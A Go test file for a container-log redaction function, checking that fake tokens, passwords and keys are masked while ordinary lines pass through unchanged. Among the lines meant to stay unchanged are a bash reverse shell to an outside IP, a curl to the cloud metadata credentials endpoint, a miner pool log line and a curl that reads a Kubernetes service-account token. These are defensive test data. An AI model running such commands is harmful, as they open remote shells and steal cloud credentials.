package containerlog

import (
	"strings"
	"testing"

	"github.com/valyala/fastjson"

	"github.com/vigia-dev/vigia/internal/normalize"
)

// The secrets below are fakes shaped like the real thing.
const (
	fakeJWT    = "eyJhbGciOiJSUzI1NiIsImtpZCI6IkRFTU8ifQ.eyJpc3MiOiJrdWJlcm5ldGVzL3NlcnZpY2VhY2NvdW50Iiwic3ViIjoic3lzdGVtOnNlcnZpY2VhY2NvdW50OmRlZmF1bHQ6ZGVmYXVsdCJ9.c2lnbmF0dXJlLW5vdC1yZWFsLTAxMjM0NTY3ODk"
	fakeAWS    = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	fakeGitHub = "ghp_R3alLook1ngButFak3T0ken0123456789ab"
	fakePEM    = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAfakefakefakefakefakefakefake\nZmFrZWZha2VmYWtlZmFrZQ==\n-----END RSA PRIVATE KEY-----"
)

func TestRedactSecretsNeverSurvive(t *testing.T) {
	tests := []struct {
		line   string
		secret string
		want   string // exact output when set
	}{
		{"GET /api Authorization: Bearer " + fakeGitHub, fakeGitHub, "GET /api Authorization: Bearer [REDACTED]"},
		{"authorization=Basic dXNlcjpodW50ZXIy host=api", "dXNlcjpodW50ZXIy", "authorization=Basic [REDACTED] host=api"},
		{`headers: map[Accept:[*/*] Authorization:[Bearer ` + fakeGitHub + `]]`, fakeGitHub, `headers: map[Accept:[*/*] Authorization:[Bearer [REDACTED]]]`},
		{`{"headers":{"authorization":"Bearer ` + fakeGitHub + `"}}`, fakeGitHub, `{"headers":{"authorization":"Bearer [REDACTED]"}}`},
		{`{\"Authorization\":\"Token ` + fakeGitHub + `\"}`, fakeGitHub, ""},
		{"Proxy-Authorization: Digest username=admin", "username=admin", ""},
		{"calling upstream with bearer " + fakeGitHub, fakeGitHub, "calling upstream with bearer [REDACTED]"},
		{"token exchange ok, jwt=" + fakeJWT + " exp=3600", fakeJWT, "token exchange ok, jwt=[REDACTED] exp=3600"},
		{"id_token " + fakeJWT, fakeJWT, "id_token [REDACTED]"},
		{"login user=maria password=hunter2-prod ok", "hunter2-prod", "login user=maria password=[REDACTED] ok"},
		{"DB_PASSWORD='correct horse battery'", "horse", "DB_PASSWORD='[REDACTED]'"},
		{`{"user":"maria","password":"hunter2 prod","ok":true}`, "hunter2", `{"user":"maria","password":"[REDACTED]","ok":true}`},
		{`{\"password\":\"hunter2\"}`, "hunter2", `{\"password\":\"[REDACTED]\"}`},
		{"passwd: s3cr3t!", "s3cr3t!", "passwd: [REDACTED]"},
		{"export PWD_HASH=abc123", "abc123", ""},
		{"aws_secret_access_key = " + fakeAWS, fakeAWS, "aws_secret_access_key = [REDACTED]"},
		{"AWS_SECRET_ACCESS_KEY=" + fakeAWS + " aws s3 ls", fakeAWS, "AWS_SECRET_ACCESS_KEY=[REDACTED] aws s3 ls"},
		{`"SecretAccessKey" : "` + fakeAWS + `",`, fakeAWS, `"SecretAccessKey" : "[REDACTED]",`},
		{"X-Api-Key: 9f8e7d6c5b4a39281706f5e4d3c2b1a0", "9f8e7d6c5b4a39281706f5e4d3c2b1a0", "X-Api-Key: [REDACTED]"},
		{"GET /callback?code=abc&access_token=ya29.a0AfH6SMBfake&state=xyz HTTP/1.1", "ya29.a0AfH6SMBfake", "GET /callback?code=abc&access_token=[REDACTED]&state=xyz HTTP/1.1"},
		{"client_secret: 'Zx8-fake~secret.value'", "Zx8-fake", ""},
		{"loaded key " + fakePEM + " ok", "MIIEowIBAAKCAQEA", "loaded key -----BEGIN RSA PRIVATE KEY-----[REDACTED]-----END RSA PRIVATE KEY----- ok"},
		{`pem=-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA`, "b3BlbnNzaC1rZXktdjEAAAAA", ""},
		{"redis://:r3d1sPass@redis-master:6379/0", "r3d1sPass", "redis://:[REDACTED]@redis-master:6379/0"},
		{"dsn=postgres://ledger:S3nh4@db:5432/ledger?sslmode=require", "S3nh4", "dsn=postgres://ledger:[REDACTED]@db:5432/ledger?sslmode=require"},
		{"Token: " + fakeGitHub, fakeGitHub, "Token: [REDACTED]"},
		{"GITHUB_TOKEN=" + fakeGitHub, fakeGitHub, "GITHUB_TOKEN=[REDACTED]"},
		{"password=$ecret-Passw0rd", "ecret-Passw0rd", "password=[REDACTED]"},
		{"a token=abc password=def secret=ghi end", "def", "a token=[REDACTED] password=[REDACTED] secret=[REDACTED] end"},
	}
	for _, tt := range tests {
		got := Redact(tt.line)
		if strings.Contains(got, tt.secret) {
			t.Errorf("Redact(%q) = %q: secret %q survives", tt.line, got, tt.secret)
		}
		if tt.want != "" && got != tt.want {
			t.Errorf("Redact(%q)\n got %q\nwant %q", tt.line, got, tt.want)
		}
		if again := Redact(got); again != got {
			t.Errorf("Redact not idempotent: %q then %q", got, again)
		}
	}
}

func TestRedactKeepsOrdinaryLines(t *testing.T) {
	for _, line := range []string{
		`10.244.1.7 - - [14/May/2024:13:05:40 +0000] "GET /healthz HTTP/1.1" 200 2 "-" "kube-probe/1.29"`,
		"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
		"curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
		"[2024-05-14 13:05:40.118]  net      new job from pool.supportxmr.com:443 diff 120001 algo rx/0 height 3141592",
		"password reset email sent to user 4711",
		"token refresh scheduled in 300s",
		"authorization denied for user maria",
		"the bearer of this message",
		"PASSWORD_FILE=",
		"connecting to https://api.example.com:443/v1",
		`curl -H "Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" https://kubernetes.default.svc/api`,
		"password=${DB_PASSWORD} token=$API_TOKEN secret={{ .Values.secret }}",
	} {
		if got := Redact(line); got != line {
			t.Errorf("Redact(%q) = %q, want unchanged", line, got)
		}
	}
}

// TestNoSecretInEvents decodes lines carrying secrets through every path
// (message, raw, error text) and checks no secret reaches the event.
func TestNoSecretInEvents(t *testing.T) {
	secrets := []string{fakeJWT, fakeAWS, fakeGitHub, "hunter2-prod", "MIIEowIBAAKCAQEA"}
	lines := []string{
		"Authorization: Bearer " + fakeGitHub,
		"aws_secret_access_key=" + fakeAWS,
		"session " + fakeJWT,
		"password=hunter2-prod",
		strings.ReplaceAll(fakePEM, "\n", `\n`),
	}
	d := New(Limits{})
	o := normalize.Options{Raw: true}
	for _, ln := range lines {
		var found []string
		cri := "2024-05-14T13:15:00Z stdout F " + ln
		evs, _ := d.DecodeText([]byte(cri), o, normalize.Meta{File: "web-1_shop_app.log"})
		// The secret split across parts is reassembled before redaction.
		half := len(ln) / 2
		split := "2024-05-14T13:15:01Z stdout P " + ln[:half] + "\n2024-05-14T13:15:01Z stdout F " + ln[half:]
		e2, _ := d.DecodeText([]byte(split), o, normalize.Meta{File: "web-1_shop_app.log"})
		evs = append(evs, e2...)
		docker := `{"log":` + quote(ln+"\n") + `,"stream":"stdout","time":"2024-05-14T13:15:00Z","extra":{"api_key":"k-123","note":` + quote(ln) + `}}`
		e3, _ := d.Decode(fastjson.MustParse(docker), o, normalize.Meta{})
		evs = append(evs, e3...)
		if len(evs) != 3 {
			t.Fatalf("%q: %d events", ln, len(evs))
		}
		for _, ev := range evs {
			dump := ev.Message + " " + ev.ID + " " + anyString(ev.RawMap())
			for _, s := range append(secrets, "k-123") {
				if strings.Contains(dump, s) {
					found = append(found, s)
				}
			}
		}
		if len(found) > 0 {
			t.Errorf("%q: secrets %v reach the event", ln, found)
		}
	}
}

func quote(s string) string {
	a := fastjson.Arena{}
	return a.NewString(s).String()
}

func anyString(v any) string {
	var b strings.Builder
	var walk func(any)
	walk = func(v any) {
		switch t := v.(type) {
		case map[string]any:
			for k, x := range t {
				b.WriteString(k + "=")
				walk(x)
				b.WriteByte(' ')
			}
		case []any:
			for _, x := range t {
				walk(x)
			}
		case string:
			b.WriteString(t)
		}
	}
	walk(v)
	return b.String()
}

func BenchmarkRedact(b *testing.B) {
	for _, bc := range []struct{ name, line string }{
		{"clean", `10.244.1.7 - - [14/May/2024:13:05:40 +0000] "GET /api/v1/orders?page=2 HTTP/1.1" 200 5123 "-" "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"`},
		{"trigger-no-secret", `2024-05-14 13:05:40 INFO token refresh scheduled in 300s for client orders-api (password policy v2)`},
		{"secret", `2024-05-14 13:05:40 DEBUG outgoing request headers: map[Accept:[application/json] Authorization:[Bearer ` + fakeGitHub + `]]`},
	} {
		b.Run(bc.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(len(bc.line)))
			for b.Loop() {
				Redact(bc.line)
			}
		})
	}
}
